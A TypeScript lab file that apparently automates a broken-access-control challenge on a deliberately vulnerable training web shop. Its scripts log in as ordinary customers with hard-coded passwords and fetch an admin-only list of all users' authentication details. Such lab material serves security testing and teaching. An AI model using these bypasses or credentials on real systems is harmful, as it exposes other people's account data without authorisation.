import type { Attack, Tools } from '#lab'

/** Logs in without the role for it, and loads the administration page. */
async function administrate({ logIn, http, expect }: Tools, email: string, password: string): Promise<void> {
  const { token } = await logIn(email, password)
  const headers = { referer: 'http://localhost/' }
  const list = await http.get('/rest/user/authentication-details/', { token, headers })
  expect(list.status === 200, `the list of customers answered with ${list.status}`)
  const { data } = list.json<{ data: { email: string }[] }>()
  expect(data.length > 1, 'there are no other customers on the list')
  const end = await http.get('/assets/public/images/padding/19px.png', { headers })
  expect(end.status === 200, `the end of the page answered with ${end.status}`)
}

export const attacks: Attack[] = [
  {
    challenge: 'adminSectionChallenge',
    name: 'Jim, a customer, opens the page and gets its data',
    run: (tools) => administrate(tools, `jim@${tools.settings.domain}`, 'ncc-1701'),
  },
  {
    challenge: 'adminSectionChallenge',
    name: 'the accountant opens the administration page',
    run: (tools) => administrate(tools, `accountant@${tools.settings.domain}`, 'i am an awesome accountant'),
  },
]
